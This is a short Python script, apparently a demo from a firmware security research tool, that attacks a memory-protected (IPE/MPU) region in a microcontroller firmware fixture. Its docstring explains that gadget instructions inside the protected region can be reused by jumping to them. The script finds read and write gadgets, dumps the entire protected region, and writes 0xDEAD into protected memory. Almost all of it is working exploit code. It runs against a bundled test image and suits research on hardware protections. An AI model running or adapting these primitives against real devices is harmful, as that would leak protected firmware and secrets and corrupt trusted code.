"""Turn decoded loads and stores into memory access primitives.

A decoded ``MOV @Rn, Rm`` inside the region will read any address the
attacker puts in Rn, because the MPU checks where the instruction lives,
not who jumped there. Stop it after one instruction and Rm holds the word.
"""
from ripencap.analysis import analyze, find_gadgets
from ripencap.attack import AttackConfig, Attacker, phase1_collect, phase3_exfiltrate, write_exploit
from ripencap.firmware import fixture

img = fixture("matrix")
cfg = AttackConfig(img.entry)
gadgets = find_gadgets(analyze(img, phase1_collect(img, cfg), cfg))
for kind in ("read", "write"):
    for g in gadgets[kind]:
        print("%-5s gadget 0x%04X  %s  r%d -> r%d  offset %d" % (kind, g.addr, g.src_mode.name, g.src_reg,
                                                               g.dst_reg, g.offset))

att = Attacker(img)
read = gadgets["read"][0]
data = phase3_exfiltrate(att, read, img.ipe.start, img.ipe.end)
print("\nread %d bytes; equal to the image: %s" % (len(data), data == img.ipe_bytes()))
for off in range(0, 64, 16):
    print("  %04X  %s" % (img.ipe.start + off, data[off:off + 16].hex(" ")))

target = img.ipe.end - 0x10
store = next(g for g in gadgets["write"] if g.addr == 0xA046)
write_exploit(att, store, target, b"\xAD\xDE")
print("\nwrote DEAD through 0x%04X; reading it back: %s"
      % (store.addr, phase3_exfiltrate(att, read, target, target + 2)[::-1].hex().upper()))
